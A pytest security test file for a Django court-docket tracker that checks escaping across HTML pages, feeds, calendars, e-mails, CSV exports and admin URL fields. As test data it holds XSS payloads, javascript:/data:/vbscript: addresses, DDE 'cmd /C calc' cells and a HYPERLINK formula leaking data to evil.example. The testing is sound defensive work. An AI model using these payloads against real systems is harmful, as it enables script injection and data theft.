"""XSS everywhere: markup typed into the admin comes out as text on every surface that shows it.

Each payload is entered through the Django admin by an Editors user, posting the forms the admin
renders (``tests.forms.form_data``), into every free-text field a reader sees: courts, judges,
cases, parties, firms, attorneys, docket entries, motions, rulings, deadlines, case links,
status notes, and the web addresses of documents and sources. Then each surface is read back:

- the HTML pages (home, case list, search results, case, related cases, deadlines, courts,
  judges, parties, my alerts) never carry the payload raw, and carry its escaped form;
- the Atom feeds parse (feedparser and a plain XML parser), their text titles hold the payload
  as text and their HTML summaries hold it escaped, and no element of it reaches the raw XML;
- the iCalendar files parse with ``icalendar`` and carry it as plain, escaped TEXT values, with
  no HTML alternative;
- the HTML part of each real alert e-mail (event, reminder, digest) holds it escaped;
- the CSV exports write cells a spreadsheet would run as a formula as text (``'=...``);
- every URL field of the admin refuses ``javascript:``, ``data:`` and ``vbscript:`` addresses
  with a form error and writes nothing, and a page never links such an address even when one
  reached the database without validation.
"""

from __future__ import annotations

import csv
import datetime
import email
import email.policy
import html
import io
import re
import xml.etree.ElementTree as ET
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

import feedparser
import icalendar
import pytest
from django.apps import apps
from django.contrib.auth.models import User
from django.db import models
from django.test import Client
from django.utils import timezone
from django.utils.html import escape

from alerts import services as alert_services
from alerts import tasks as alert_tasks
from alerts.models import AlertSettings, Notification
from cases import services as case_services
from cases.exports import FORMULA_STARTS
from cases.models import (
    Case,
    CaseEvent,
    CaseLink,
    Court,
    Deadline,
    DocketEntry,
    Judge,
    Motion,
    Ruling,
)
from parties.models import Attorney, CaseParty, LawFirm, Party, Representation
from parties.services import attorney_create
from tests import factories
from tests.forms import form_data
from tracker.fields import SourcesField

pytestmark = pytest.mark.django_db

ATOM = "{http://www.w3.org/2005/Atom}"

# The payloads, each in a different HTML context: an element, an attribute value broken out of
# with a double quote, and one broken out of with a single quote.
PAYLOADS = [
    pytest.param("<script>alert(1)</script>", id="script"),
    pytest.param('"><img src=x onerror=alert(1)>', id="img"),
    pytest.param("'onmouseover='alert(1)", id="quote"),
]
# Addresses no page may link and no URL field may accept.
BAD_URLS = {
    "javascript": "javascript:alert(1)",
    "javascript, mixed case": "JaVaScRiPt:alert(document.domain)",
    "javascript, slashes": "javascript://example.org/%0Aalert(1)",
    "javascript, tab inside": "java\tscript:alert(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "data, base64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript": "vbscript:msgbox(1)",
}
# Cells that Excel, LibreOffice or Google Sheets would evaluate.
FORMULAS = [
    pytest.param('=HYPERLINK("https://evil.example/?leak="&A1,"Click")', id="hyperlink"),
    pytest.param("+cmd|' /C calc'!A0", id="plus-dde"),
    pytest.param("-1+1", id="minus"),
    pytest.param("@SUM(1+1)*cmd|' /C calc'!A0", id="at-sum"),
]

D = datetime.date


# --- Entering data through the admin -------------------------------------------------------


def admin_errors(response: Any) -> str:
    """The errors the admin shows next to the fields (to explain a failed save)."""
    found = re.findall(r'<ul class="errorlist[^"]*"[^>]*>(.*?)</ul>', response.content.decode())
    return " | ".join(re.sub(r"<[^>]+>", " ", item).strip() for item in found) or "(none)"


def admin_post(
    client: Client, path: str, values: dict[str, Any], *, obj: Any = None, query: str = ""
) -> Any:
    """Fill in the admin's add (or change) form of ``path`` ("cases/case") as rendered, with
    ``values`` typed over it, and post it."""
    url = f"/admin/{path}/add/" if obj is None else f"/admin/{path}/{obj.pk}/change/"
    page = client.get(url + query)
    assert page.status_code == 200, (url, page.status_code)
    form_id = f"{path.split('/')[1]}_form"
    return client.post(url + query, form_data(page, form_id) | values)


def admin_save(client: Client, path: str, values: dict[str, Any], **kwargs: Any) -> None:
    response = admin_post(client, path, values, **kwargs)
    assert response.status_code == 302, (path, admin_errors(response))


def web_address(payload: str) -> str:
    """A valid https address that carries the payload (spaces encoded, quotes and brackets
    kept: Django's URLValidator accepts them in the path and query)."""
    return "https://example.org/doc?q=" + payload.replace(" ", "%20")


@dataclass
class World:
    payload: str
    court: Court
    judge: Judge
    case: Case
    other: Case
    party: Party
    firm: LawFirm
    attorney: Attorney
    entry: DocketEntry
    motion: Motion
    ruling: Ruling
    deadline: Deadline
    reader: User  # follows the case, alerts at once
    digest_reader: User  # follows the case, one daily digest

    @property
    def texts(self) -> dict[str, str]:
        """Label -> value of what was typed (``payload`` in each)."""
        return {
            "court name": self.court.name,
            "court short name": self.court.short_name,
            "judge name": self.judge.name,
            "case short name": self.case.short_name,
            "case caption": self.case.caption,
            "party name": self.party.name,
            "law firm name": self.firm.name,
            "attorney name": self.attorney.name,
            "docket entry text": self.entry.text,
            "motion title": self.motion.title,
            "ruling title": self.ruling.title,
            "ruling summary": self.ruling.summary,
            "deadline title": self.deadline.title,
        }


def build_world(client: Client, payload: str, *, today: datetime.date) -> World:
    """Every free-text field a reader sees, typed into the admin with ``payload`` in it."""
    p = payload
    url = web_address(p)
    admin_save(
        client,
        "cases/court",
        {
            "code": "xss-court",
            "name": f"Court {p}",
            "short_name": f"Ct {p}",
            "level": "federal_district",
            "state": "IL",
            "time_zone": "America/Chicago",
            "holiday_calendar": "us_federal",
        },
    )
    court = Court.objects.get(code="xss-court")
    admin_save(
        client, "cases/judge", {"name": f"Judge {p}", "court": court.pk, "title": f"Title {p}"}
    )
    judge = Judge.objects.get(court=court)
    case_values = {
        "court": court.pk,
        "case_type": "civil",
        "status": "filed",
        "filed_date": "2021-01-04",
    }
    admin_save(
        client,
        "cases/case",
        case_values
        | {
            "caption": f"Caption {p}",
            "short_name": f"Case {p}",
            "slug": "xss-case",
            "docket_number": f"No. {p}",
            "summary": f"Summary {p}",
            "causes_of_action": f"Cause {p}",
            "relief_sought": f"Relief {p}",
            "sources": url,
        },
    )
    admin_save(
        client,
        "cases/case",
        case_values
        | {
            "caption": f"Other caption {p}",
            "short_name": f"Other {p}",
            "slug": "xss-other",
            "docket_number": f"No. 2 {p}",
        },
    )
    case = Case.objects.get(slug="xss-case")
    other = Case.objects.get(slug="xss-other")

    # Readers follow the case before anything else happens in it.
    reader = User.objects.create_user("bob", "bob@example.org", "pw")
    alert_services.subscription_follow(user=reader, case=case, docket_entries=True)
    digest_reader = User.objects.create_user("carol", "carol@example.org", "pw")
    AlertSettings.objects.create(
        user=digest_reader, delivery="digest", digest_hour=0, time_zone="UTC"
    )
    alert_services.subscription_follow(user=digest_reader, case=case, docket_entries=True)

    admin_save(
        client,
        "cases/case",
        {
            "status": "active",
            "status_effective_date": (today - datetime.timedelta(days=2)).isoformat(),
            "status_note": f"Status note {p}",
        },
        obj=case,
    )
    admin_save(client, "cases/casejudge", {"case": case.pk, "judge": judge.pk, "role": "presiding"})
    admin_save(
        client,
        "parties/party",
        {
            "name": f"Party {p}",
            "kind": "organization",
            "description": f"Description {p}",
            "sources": url,
        },
    )
    party = Party.objects.get(name=f"Party {p}")
    admin_save(client, "parties/lawfirm", {"name": f"Firm {p}", "city": f"City {p}"})
    firm = LawFirm.objects.get(name=f"Firm {p}")
    admin_save(
        client,
        "parties/attorney",
        {"name": f"Attorney {p}", "firm": firm.pk, "email": "counsel@example.org"},
    )
    attorney = Attorney.objects.get(name=f"Attorney {p}")
    admin_save(
        client,
        "parties/caseparty",
        {
            "case": case.pk,
            "party": party.pk,
            "role": "plaintiff",
            "note": f"Role note {p}",
            "extra_info": f"Extra info {p}",
            "representations-TOTAL_FORMS": "1",
            "representations-0-attorney": attorney.pk,
            "representations-0-firm": firm.pk,
            "representations-0-role": "lead",
            "representations-0-sources": url,
        },
    )
    case_party = CaseParty.objects.get(case=case, party=party)
    assert Representation.objects.filter(case_party=case_party).exists()
    admin_save(
        client,
        "cases/docketentry",
        {
            "case": case.pk,
            "number": "1",
            "filed_date": (today - datetime.timedelta(days=3)).isoformat(),
            "text": f"Entry {p}",
            "document_url": url,
            "sources": url,
        },
    )
    entry = DocketEntry.objects.get(case=case)
    admin_save(
        client,
        "cases/motion",
        {
            "case": case.pk,
            "title": f"Motion {p}",
            "kind": "other",
            "filed_date": (today - datetime.timedelta(days=3)).isoformat(),
            "movants": [case_party.pk],
            "docket_entry": entry.pk,
            "summary": f"Motion summary {p}",
            "sources": url,
        },
    )
    motion = Motion.objects.get(case=case)
    admin_save(
        client,
        "cases/ruling",
        {
            "case": case.pk,
            "title": f"Ruling {p}",
            "kind": "order",
            "date": (today - datetime.timedelta(days=1)).isoformat(),
            "judge": judge.pk,
            "summary": f"Ruling summary zebrafish {p}",
            "citation": f"Cit {p}",
            "document_url": url,
            "sources": url,
            f"outcome_{motion.pk}": "granted",
        },
        query=f"?case={case.pk}",
    )
    ruling = Ruling.objects.get(case=case)
    admin_save(
        client,
        "cases/deadline",
        {
            "case": case.pk,
            "motion": motion.pk,
            "title": f"Deadline {p}",
            "kind": "response",
            "status": "open",
            "basis": "set_by_order",
            "due_date": (today + datetime.timedelta(days=5)).isoformat(),
            "due_time": "16:00",
            "rule": f"Rule {p}",
            "sources": url,
        },
    )
    deadline = Deadline.objects.get(case=case)
    admin_save(
        client,
        "cases/caselink",
        {
            "from_case": case.pk,
            "to_case": other.pk,
            "kind": "related",
            "date": (today - datetime.timedelta(days=1)).isoformat(),
            "note": f"Link note {p}",
            "sources": url,
        },
    )
    assert CaseLink.objects.filter(from_case=case, to_case=other).exists()
    for row in (court, judge, case, other, party, firm, attorney, entry, motion, ruling):
        row.refresh_from_db()
    return World(
        payload=p,
        court=court,
        judge=judge,
        case=case,
        other=other,
        party=party,
        firm=firm,
        attorney=attorney,
        entry=entry,
        motion=motion,
        ruling=ruling,
        deadline=deadline,
        reader=reader,
        digest_reader=digest_reader,
    )


# --- What "escaped" means on each surface ------------------------------------------------------


def assert_escaped_html(html_text: str, payload: str, where: str) -> None:
    """The payload is in the HTML only as text: never raw, and escaped at least once."""
    assert payload not in html_text, f"{where}: the payload is in the HTML unescaped"
    assert escape(payload) in html_text, f"{where}: the escaped payload is missing"


class _Links(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.urls: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name in {"href", "src", "action", "formaction", "xlink:href"} and value:
                self.urls.append(value)


def linked_urls(html_text: str) -> list[str]:
    """Every address the page links, loads or posts to, as a browser reads it."""
    parser = _Links()
    parser.feed(html_text)
    return parser.urls


def unsafe_links(html_text: str) -> list[str]:
    """The addresses whose scheme is not http(s) (relative addresses have none)."""
    unsafe = []
    for url in linked_urls(html_text):
        # Browsers drop tabs and newlines and strip the ends before reading the scheme.
        cleaned = re.sub(r"[\t\n\r]", "", url).strip(" \x00-\x1f")
        scheme = urlsplit(cleaned).scheme.lower()
        if scheme and scheme not in {"http", "https"}:
            unsafe.append(url)
    return unsafe


def page(client: Client, url: str) -> str:
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    return response.content.decode()


def tags_of(payload: str) -> list[str]:
    """The elements the payload would open (``<script``, ``<img``), lower-cased."""
    return [f"<{name.lower()}" for name in re.findall(r"<\s*([a-zA-Z]+)", payload)]


# --- The surfaces: HTML pages ------------------------------------------------------------------


def html_pages(w: World) -> dict[str, tuple[str, list[str]]]:
    """Page -> (address, the labels of ``World.texts`` it must show, escaped)."""
    case, other = w.case.get_absolute_url(), w.other.get_absolute_url()
    return {
        "home": ("/", ["deadline title", "ruling title", "case short name"]),
        "case list": ("/cases/", ["case short name", "court short name"]),
        "case list by court": (f"/cases/?court={w.court.code}", ["case short name"]),
        "search results": ("/cases/?q=zebrafish", ["case short name", "court short name"]),
        "case": (
            case,
            [
                "case short name",
                "case caption",
                "court name",
                "judge name",
                "party name",
                "law firm name",
                "attorney name",
                "docket entry text",
                "motion title",
                "ruling title",
                "deadline title",
            ],
        ),
        "case, timeline of motions": (f"{case}?kind=motions", ["motion title"]),
        "other case": (other, ["case short name"]),  # the link from the case, seen from here
        "related cases": (f"{case}related/", ["case short name"]),
        "deadlines": ("/deadlines/", ["deadline title", "case short name", "court short name"]),
        "deadlines of the case": (f"/deadlines/?case={w.case.slug}", ["deadline title"]),
        "courts": ("/courts/", ["court name", "court short name"]),
        "court": (
            w.court.get_absolute_url(),
            ["court name", "court short name", "judge name", "case short name"],
        ),
        "judge": (
            w.judge.get_absolute_url(),
            ["judge name", "court name", "case short name", "ruling title"],
        ),
        "parties": ("/parties/", ["party name"]),
        "party": (
            w.party.get_absolute_url(),
            ["party name", "case short name", "attorney name", "law firm name"],
        ),
    }


def check_html_page(w: World, client: Client, url: str, labels: list[str]) -> None:
    text = page(client, url)
    assert_escaped_html(text, w.payload, url)
    for label in labels:
        assert escape(w.texts[label]) in text, f"{url}: the {label} is not shown escaped"
    assert unsafe_links(text) == [], url


def check_my_alerts(w: World) -> None:
    reader = Client()
    reader.force_login(w.reader)
    text = page(reader, "/alerts/")
    assert_escaped_html(text, w.payload, "my alerts")
    assert escape(w.case.short_name) in text and escape(w.court.short_name) in text


def check_search_snippets(w: World, client: Client) -> None:
    """The ruling summary's word is found; its snippet carries no markup but <mark>."""
    text = page(client, "/cases/?q=zebrafish")
    snippets = re.findall(r'<p class="snippet">(.*?)</p>', text, flags=re.S)
    assert snippets, "the search result has no snippet"
    for snippet in snippets:
        assert "<mark>zebrafish</mark>" in snippet
        plain = re.sub(r"</?mark>", "", snippet)
        assert not set(plain) & set("<>\"'"), snippet  # markup and quotes only as entities


# The admin's own pages show what editors typed to other editors and to superusers.
ADMIN_LISTS = [
    "cases/court",
    "cases/judge",
    "cases/case",
    "cases/casejudge",
    "cases/caselink",
    "cases/docketentry",
    "cases/motion",
    "cases/ruling",
    "cases/rulingmotion",
    "cases/deadline",
    "cases/statuschange",
    "cases/caseevent",
    "parties/party",
    "parties/caseparty",
    "parties/lawfirm",
    "parties/attorney",
    "parties/representation",
]


def admin_pages(w: World) -> dict[str, str]:
    pages = {f"admin {path} list": f"/admin/{path}/" for path in ADMIN_LISTS}
    case_party = CaseParty.objects.get(case=w.case, party=w.party)
    for path, row in [
        ("cases/case", w.case),
        ("cases/docketentry", w.entry),
        ("cases/motion", w.motion),
        ("cases/ruling", w.ruling),
        ("cases/deadline", w.deadline),
        ("parties/caseparty", case_party),
    ]:
        pages[f"admin {path} change"] = f"/admin/{path}/{row.pk}/change/"
    pages["admin ruling add for the case"] = f"/admin/cases/ruling/add/?case={w.case.pk}"
    pages["admin motion's proposed deadlines"] = f"/admin/cases/motion/{w.motion.pk}/deadlines/"
    return pages


def check_admin_page(w: World, client: Client, url: str) -> None:
    text = page(client, url)
    assert_escaped_html(text, w.payload, url)
    assert unsafe_links(text) == [], url


# --- The surfaces: Atom feeds ------------------------------------------------------------------


def check_feed(w: World, client: Client, url: str) -> None:
    """Titles are Atom text, summaries Atom html: the payload is text in both, and the raw XML
    has none of its elements."""
    response = client.get(url)
    assert response.status_code == 200
    raw = response.content
    for tag in tags_of(w.payload):
        assert tag.encode() not in raw.lower(), f"{url}: {tag} is in the XML as markup"
    root = ET.fromstring(raw)  # noqa: S314 (the feed the test server just wrote)
    entries = root.findall(f"{ATOM}entry")
    assert entries, url
    parsed = feedparser.parse(raw)
    assert not parsed.bozo, parsed.get("bozo_exception")
    assert len(parsed.entries) == len(entries)
    shown = {e.findtext(f"{ATOM}title") for e in entries}
    # Every event names its case (and court) in its title and its summary.
    for entry, parsed_entry in zip(entries, parsed.entries, strict=True):
        title = entry.findtext(f"{ATOM}title")
        assert entry.find(f"{ATOM}title").get("type") in {None, "text"}
        assert parsed_entry.title == title  # text, as typed
        assert w.payload in title
        summary = entry.find(f"{ATOM}summary")
        assert summary.get("type") == "html"
        assert_escaped_html(summary.text, w.payload, f"{url} summary of {title!r}")
        for tag in tags_of(w.payload):  # what a feed reader shows after sanitising
            assert tag not in parsed_entry.summary.lower()
    # Each text typed into an event's summary is in a title, as text.
    for label in ["docket entry text", "motion title", "deadline title", "party name"]:
        assert any(w.texts[label] in title for title in shown), f"{url}: {label}"
    if url.endswith("feed.atom"):
        assert root.findtext(f"{ATOM}subtitle") == w.case.caption
        assert w.case.short_name in root.findtext(f"{ATOM}title")


# --- The surfaces: iCalendar -------------------------------------------------------------------


def check_calendar(w: World, client: Client, url: str) -> None:
    """TEXT values carry the payload as plain text, escaped as iCalendar escapes TEXT; there
    is no HTML alternative (X-ALT-DESC) for a client to render."""
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/calendar")
    body = response.content.decode()
    assert "X-ALT-DESC" not in body.upper() and "TEXT/HTML" not in body.upper()
    calendar = icalendar.Calendar.from_ical(body)
    (event,) = calendar.walk("VEVENT")
    summary = f"[{w.case.short_name}] {w.deadline.title}"
    assert str(event["SUMMARY"]) == summary
    description = str(event["DESCRIPTION"])
    for expected in [w.case.short_name, w.court.name, w.case.docket_number, w.deadline.rule]:
        assert expected in description
    assert str(event["URL"]) == "http://testserver" + w.case.get_absolute_url()
    # In the file itself the values are iCalendar TEXT (RFC 5545 3.3.11), folded at 75 octets.
    unfolded = re.sub(r"\r\n[ \t]", "", body)
    assert "SUMMARY:" + icalendar.vText(summary).to_ical().decode() in unfolded
    for line in unfolded.split("\r\n"):
        assert line == "" or re.match(r"[A-Z][A-Z0-9-]*[;:]", line), line  # no injected lines


# --- The surfaces: the alert e-mails -----------------------------------------------------------


def sent_mail(outbox: list[Any]) -> dict[str, list[email.message.EmailMessage]]:
    """The messages as they went out (MIME, as an SMTP server gets them), by notification kind."""
    by_kind: dict[str, list[email.message.EmailMessage]] = {}
    for message in outbox:
        parsed = email.message_from_bytes(message.message().as_bytes(), policy=email.policy.default)
        notification = Notification.objects.get(pk=parsed["X-Docket-Tracker-Notification"])
        by_kind.setdefault(notification.kind, []).append(parsed)
    return by_kind


def check_mail(w: World, messages: list[email.message.EmailMessage], texts: list[str]) -> None:
    assert messages
    for message in messages:
        html_part = message.get_body(("html",)).get_content()
        plain = message.get_body(("plain",)).get_content()
        assert_escaped_html(html_part, w.payload, f"HTML part of {message['Subject']!r}")
        assert unsafe_links(html_part) == []
        assert w.payload in plain  # the text part is text: the payload as typed
    every_html = "".join(m.get_body(("html",)).get_content() for m in messages)
    for text in texts:
        assert escape(text) in every_html, text


# --- Every surface, for each payload -----------------------------------------------------------


def surfaces(
    w: World, client: Client, editor: Client, outbox: list[Any]
) -> Iterator[tuple[str, Callable[[], None]]]:
    """(surface, check) for every place the payload is shown."""
    for name, (url, labels) in html_pages(w).items():
        yield name, lambda url=url, labels=labels: check_html_page(w, client, url, labels)
    yield "my alerts", lambda: check_my_alerts(w)
    yield "search snippets", lambda: check_search_snippets(w, client)
    for name, url in admin_pages(w).items():
        yield name, lambda url=url: check_admin_page(w, editor, url)
    for url in ["/activity.atom", f"/cases/{w.case.slug}/feed.atom"]:
        yield url, lambda url=url: check_feed(w, client, url)
    for url in ["/cases/deadlines.ics", f"/cases/{w.case.slug}/deadlines.ics"]:
        yield url, lambda url=url: check_calendar(w, client, url)
    mail = sent_mail(outbox)
    event_texts = [
        w.case.short_name,
        w.court.short_name,
        w.entry.text,
        w.motion.title,
        w.party.name,
        w.deadline.title,
    ]
    yield "event e-mails", lambda: check_mail(w, mail.get("event", []), event_texts)
    reminder_texts = [w.case.short_name, w.deadline.title, w.deadline.rule]
    yield "reminder e-mail", lambda: check_mail(w, mail.get("reminder", []), reminder_texts)
    digest_texts = [w.case.short_name, w.entry.text, w.motion.title, w.deadline.title]
    yield "digest e-mail", lambda: check_mail(w, mail.get("digest", []), digest_texts)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markup_typed_into_the_admin_is_text_on_every_surface(
    payload, editor_client, client, django_capture_on_commit_callbacks, mailoutbox, subtests
):
    # The alerts of each change go out as they would once its transaction commits.
    with django_capture_on_commit_callbacks(execute=True):
        w = build_world(editor_client, payload, today=timezone.localdate())
    alert_tasks.scan_reminders()  # the deadline is 5 days away: its 7-day reminder is due
    alert_tasks.send_digests()  # carol's digest hour (0) has come
    for label, value in w.texts.items():
        assert payload in value, label  # stored as typed (the admin strips the ends only)
    for surface, check in surfaces(w, client, editor_client, mailoutbox):
        with subtests.test(surface=surface):
            check()


# --- CSV exports: formulas are written as text -------------------------------------------------


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_exports_write_formulas_typed_into_the_admin_as_text(formula, editor_client, client):
    f = formula
    admin_save(
        editor_client,
        "cases/court",
        {
            "code": "csv-court",
            "name": f,
            "short_name": f[:60],
            "level": "federal_district",
            "time_zone": "America/Chicago",
            "holiday_calendar": "us_federal",
        },
    )
    court = Court.objects.get(code="csv-court")
    admin_save(
        editor_client,
        "cases/case",
        {
            "caption": f,
            "short_name": f,
            "slug": "csv-case",
            "court": court.pk,
            "docket_number": f,
            "case_type": "civil",
            "status": "filed",
            "filed_date": "2021-01-04",
        },
    )
    case = Case.objects.get(slug="csv-case")
    admin_save(
        editor_client,
        "cases/docketentry",
        {"case": case.pk, "number": "7", "filed_date": "2021-02-01", "text": f},
    )
    admin_save(
        editor_client,
        "cases/motion",
        {"case": case.pk, "title": f, "kind": "other", "filed_date": "2021-02-01"},
    )
    motion = Motion.objects.get(case=case)
    admin_save(
        editor_client,
        "cases/ruling",
        {
            "case": case.pk,
            "title": f,
            "kind": "order",
            "date": "2021-03-01",
            "citation": f,
            f"outcome_{motion.pk}": "denied",
        },
        query=f"?case={case.pk}",
    )

    def rows(url: str) -> list[dict[str, str]]:
        response = client.get(url)
        assert response.status_code == 200
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        body = b"".join(response.streaming_content).decode()
        table = list(csv.DictReader(io.StringIO(body)))
        for row in table:
            for column, cell in row.items():
                assert not cell.startswith(FORMULA_STARTS), (url, column, cell)
        return table

    (exported,) = rows("/cases/export.csv")
    for column in ["Caption", "Short name", "Docket number", "Court"]:
        assert exported[column] == "'" + f, column
    timeline = rows(f"/cases/{case.slug}/timeline.csv")
    decided = [row for row in timeline if row["Kind"] == "Motion decided"]
    assert [row["Summary"] for row in decided] == [f"'{f}: DENIED"]  # starts with the title
    assert {row["Motion"] for row in timeline if row["Motion"]} == {"'" + f}
    assert {row["Ruling"] for row in timeline if row["Ruling"]} == {"'" + f}
    assert {row["Citation"] for row in timeline if row["Citation"]} == {"'" + f}
    assert any(row["Summary"] == f"Docket entry 7: {f}" for row in timeline)  # not a formula


# --- URL fields: only http(s) addresses --------------------------------------------------------


@dataclass
class Rows:
    case: Case
    other: Case
    party: Party
    case_party: CaseParty
    attorney: Attorney


@pytest.fixture
def rows(db) -> Rows:
    case = factories.case(slug="url-case")
    case_party = factories.case_party(case)
    return Rows(
        case=case,
        other=factories.case(court_=case.court),
        party=factories.party(),
        case_party=case_party,
        attorney=attorney_create(name="Scott R. Drury"),
    )


BAD = "<bad url>"  # where each form below takes the address


def url_forms(r: Rows) -> dict[str, dict[str, Any]]:
    """Every URL field an editor can type into: the admin form it is on (``path``, ``obj`` for
    a change form, ``query``), filled in but for the address, which goes where ``BAD`` is."""
    new_case = {
        "caption": "Doe v. Roe",
        "short_name": "Doe v. Roe",
        "slug": "doe-v-roe",
        "court": r.case.court_id,
        "docket_number": "1:21-cv-00001",
        "case_type": "civil",
        "status": "filed",
    }
    entry = {"case": r.case.pk, "filed_date": "2021-02-01", "text": "Complaint"}
    ruling = {"case": r.case.pk, "title": "Order", "kind": "order", "date": "2021-03-01"}
    counsel = {"attorney": r.attorney.pk, "case_party": r.case_party.pk, "role": "counsel"}
    return {
        "case sources": {"path": "cases/case", "values": new_case | {"sources": BAD}},
        "case CourtListener docket": {
            "path": "cases/case",
            "values": new_case | {"courtlistener_docket_id": BAD},
        },
        "case link sources": {
            "path": "cases/caselink",
            "values": {
                "from_case": r.case.pk,
                "to_case": r.other.pk,
                "kind": "related",
                "sources": BAD,
            },
        },
        "docket entry document": {
            "path": "cases/docketentry",
            "values": entry | {"document_url": BAD},
        },
        "docket entry sources": {"path": "cases/docketentry", "values": entry | {"sources": BAD}},
        "motion sources": {
            "path": "cases/motion",
            "values": {"case": r.case.pk, "title": "Motion", "kind": "other", "sources": BAD},
        },
        "ruling document": {
            "path": "cases/ruling",
            "values": ruling | {"document_url": BAD},
            "query": f"?case={r.case.pk}",
        },
        "ruling sources": {
            "path": "cases/ruling",
            "values": ruling | {"sources": BAD},
            "query": f"?case={r.case.pk}",
        },
        "deadline sources": {
            "path": "cases/deadline",
            "values": {
                "case": r.case.pk,
                "title": "Reply due",
                "kind": "reply",
                "status": "open",
                "basis": "set_by_order",
                "due_date": "2031-01-05",
                "sources": BAD,
            },
        },
        "party sources": {
            "path": "parties/party",
            "values": {"name": "Acme", "kind": "organization", "sources": BAD},
        },
        "case party sources": {
            "path": "parties/caseparty",
            "values": {
                "case": r.case.pk,
                "party": r.party.pk,
                "role": "defendant",
                "sources": BAD,
            },
        },
        "representation sources": {
            "path": "parties/representation",
            "values": counsel | {"sources": BAD},
        },
        "counsel row on the case party's page": {
            "path": "parties/caseparty",
            "obj": r.case_party,
            "values": {
                "representations-TOTAL_FORMS": "1",
                "representations-0-attorney": r.attorney.pk,
                "representations-0-role": "counsel",
                "representations-0-sources": BAD,
            },
        },
    }


URL_FIELDS = [
    "case sources",
    "case CourtListener docket",
    "case link sources",
    "docket entry document",
    "docket entry sources",
    "motion sources",
    "ruling document",
    "ruling sources",
    "deadline sources",
    "party sources",
    "case party sources",
    "representation sources",
    "counsel row on the case party's page",
]
# Every field is tried with the three schemes; the variants (case, slashes, a tab, base64) are
# tried on one field of each validator (the sources' lines, URLField, the CourtListener docket).
SCHEMES = ["javascript", "data", "vbscript"]
VARIED = {"docket entry sources", "docket entry document", "case CourtListener docket"}
# What the admin says, by the kind of field.
URL_ERRORS = {
    "sources": "of the sources is not a web address",
    "document_url": "Enter a valid URL.",
    "courtlistener_docket_id": "Enter a CourtListener docket id",
}


def snapshot() -> dict[str, list[dict[str, Any]]]:
    """Every row an admin form could have written or changed, and the event log."""
    tracked: list[type[models.Model]] = [
        Case,
        CaseLink,
        DocketEntry,
        Motion,
        Ruling,
        Deadline,
        Party,
        CaseParty,
        Representation,
        CaseEvent,
    ]
    return {m.__name__: list(m.objects.order_by("pk").values()) for m in tracked}


def test_every_url_field_is_in_the_table(rows):
    assert list(url_forms(rows)) == URL_FIELDS
    # Every model field that holds addresses has a row above, but StatusChange.sources: status
    # changes are written by the services only, and their admin is read-only.
    holders = {
        (model.__name__, field.name)
        for label in ["cases", "parties", "alerts"]
        for model in apps.get_app_config(label).get_models()
        if not model.__name__.startswith("Historical")
        for field in model._meta.concrete_fields
        if isinstance(field, SourcesField | models.URLField)
    }
    assert holders == {
        ("Case", "sources"),
        ("CaseLink", "sources"),
        ("DocketEntry", "document_url"),
        ("DocketEntry", "sources"),
        ("Motion", "sources"),
        ("Ruling", "document_url"),
        ("Ruling", "sources"),
        ("Deadline", "sources"),
        ("StatusChange", "sources"),
        ("Party", "sources"),
        ("CaseParty", "sources"),
        ("Representation", "sources"),
    }


@pytest.mark.parametrize("field", URL_FIELDS)
def test_url_fields_refuse_addresses_that_are_not_http(field, rows, editor_client, subtests):
    form = url_forms(rows)[field]
    obj = form.get("obj")
    path, query = form["path"], form.get("query", "")
    url = (f"/admin/{path}/add/" if obj is None else f"/admin/{path}/{obj.pk}/change/") + query
    data = form_data(editor_client.get(url), f"{path.split('/')[1]}_form") | form["values"]
    (name,) = [key for key, value in data.items() if value == BAD]
    message = URL_ERRORS[name.rsplit("-", 1)[-1]]
    before = snapshot()
    tried = [url for key, url in BAD_URLS.items() if field in VARIED or key in SCHEMES]
    for bad in tried:
        with subtests.test(url=bad):
            response = editor_client.post(url, data | {name: bad})
            assert response.status_code == 200, "the form was accepted"
            text = response.content.decode()
            errors = re.search(
                rf'<ul class="errorlist" id="id_{re.escape(name)}_error">(.*?)</ul>', text, re.S
            )
            assert errors, f"no error next to {name}"
            assert message in html.unescape(errors.group(1)), errors.group(1)
            if "<" in bad:  # the error and the form show the address as text
                assert bad not in text
            assert snapshot() == before


def test_pages_never_link_stored_addresses_that_are_not_http(rows, client, editor_client):
    """Rows written around validation (an import, a shell, an old row): the pages show such an
    address as text at most, and link only http(s) ones."""
    bad = [*BAD_URLS.values(), " javascript:alert(1)", "\x01javascript:alert(1)"]
    good = "https://example.org/source"
    sources = "\n".join([*bad, good])
    Case.objects.filter(pk=rows.case.pk).update(sources=sources)
    Party.objects.filter(pk=rows.case_party.party_id).update(sources=sources)
    for number, address in enumerate([*bad, good], start=1):
        entry = case_services.docket_entry_add(
            case=rows.case, number=number, filed_date=D(2021, 2, 1), text=f"Entry {number}"
        )
        DocketEntry.objects.filter(pk=entry.pk).update(document_url=address)
    ruling = case_services.ruling_record(
        case=rows.case, title="Order", kind="order", date=D(2021, 3, 1), decisions=[]
    )
    Ruling.objects.filter(pk=ruling.pk).update(document_url=bad[0])
    public = [rows.case.get_absolute_url(), rows.case_party.party.get_absolute_url()]
    for url in public:
        text = page(client, url)
        assert unsafe_links(text) == [], url
        assert good in linked_urls(text), url  # the sound address is still linked
    admin = [
        f"/admin/cases/case/{rows.case.pk}/change/",
        f"/admin/cases/ruling/{ruling.pk}/change/",
        f"/admin/parties/party/{rows.case_party.party_id}/change/",
        *[
            f"/admin/cases/docketentry/{pk}/change/"
            for pk in DocketEntry.objects.values_list("pk", flat=True)
        ],
    ]
    for url in admin:
        assert unsafe_links(page(editor_client, url)) == [], url
